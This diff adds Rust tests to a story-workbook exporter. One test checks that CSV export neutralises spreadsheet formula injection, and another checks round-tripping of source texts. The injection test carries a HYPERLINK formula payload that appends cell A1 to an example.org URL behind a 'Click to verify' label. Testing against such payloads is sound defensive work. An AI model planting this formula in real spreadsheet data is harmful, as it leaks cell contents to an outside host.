@@ -587,3 +587,91 @@ fn the_corpus_workbooks_saved_by_libreoffice_are_their_stories() {
         assert_eq!(story.to_canonical_json(), json, "{stem}");
     }
 }
+
+#[test]
+fn csv_export_holds_no_formula_a_spreadsheet_would_evaluate_and_reads_back_unchanged() {
+    let mut story = istanbul();
+    story.title = r#"=HYPERLINK("http://example.org/?"&A1,"Click to verify")"#.into();
+    story.standfirst = "+1 more round of talks".into();
+    story.sources[0].outlet = "@wire".into();
+    story.sides[0].name = "-Kyiv".into();
+    story.issues[0].title = "'Tis an apostrophe, kept".into();
+    story.issues[1].title = "'=already behind an apostrophe".into();
+    story.positions[0].summary = "\tbegins with a tab".into();
+    story.positions[1].summary = "\rbegins with a carriage return".into();
+    // A valid story, as a file would carry it.
+    let story = parse_story(&story.to_canonical_json()).unwrap_or_else(|e| panic!("{e:?}"));
+    let files = export_csv(&story);
+    for (name, text) in &files {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            for field in record.unwrap().iter() {
+                assert!(
+                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name}: {field:?} would be evaluated"
+                );
+            }
+        }
+    }
+    let positions = &files.iter().find(|(n, _)| n == "positions.csv").unwrap().1;
+    assert!(positions.contains("'\tbegins with a tab"), "{positions}");
+    let back = ok(import_csv(&files));
+    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
+}
+
+#[test]
+fn a_workbook_carries_its_source_texts_and_says_once_which_name_no_source() {
+    use demands_matrix::model::check::SourceText;
+    use demands_matrix::workbook::{
+        export_csv_with_texts, export_xlsx_with_texts, import_csv_with_texts, import_with_texts,
+    };
+    let story = istanbul();
+    let report = include_str!("fixtures/istanbul-talks-report.txt");
+    let long = format!("{} end", "word ".repeat(8_000));
+    let texts = vec![SourceText {
+        source_id: "report".into(),
+        text: format!("{report}\n\n{long}"),
+    }];
+    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let xlsx = import_with_texts(
+        "story.xlsx",
+        &export_xlsx_with_texts(&story, &texts).unwrap(),
+    )
+    .unwrap_or_else(|p| panic!("{}", lines(&p)));
+    let csv = import_csv_with_texts(&export_csv_with_texts(&story, &texts))
+        .unwrap_or_else(|p| panic!("{}", lines(&p)));
+    for imported in [xlsx, csv] {
+        // The story's own sheets are unchanged by the extra sheet.
+        assert_eq!(
+            imported.story.to_canonical_json(),
+            story.to_canonical_json()
+        );
+        assert_eq!(imported.texts.len(), 1);
+        assert_eq!(imported.texts[0].source_id, "report");
+        assert_eq!(words(&imported.texts[0].text), words(&texts[0].text));
+    }
+    // A colleague's rows for a source the story does not have: one message, every row named.
+    let mut files = export_csv_with_texts(&story, &texts);
+    let sheet = files
+        .iter_mut()
+        .find(|(name, _)| name == "source_texts.csv")
+        .unwrap();
+    sheet
+        .1
+        .push_str("reuters,one line\nreuters,another\nreuters,a third\n");
+    let problems = match import_csv_with_texts(&files) {
+        Ok(_) => panic!("an unknown source was accepted"),
+        Err(problems) => problems,
+    };
+    assert_eq!(problems.len(), 1, "{}", lines(&problems));
+    let said = problems[0].to_string();
+    assert!(
+        said.starts_with("source_texts.csv, row ")
+            && said.contains("\"reuters\" is not a source of the story (rows ")
+            && said.contains("add \"reuters\" to the sources sheet"),
+        "{said}"
+    );
+}
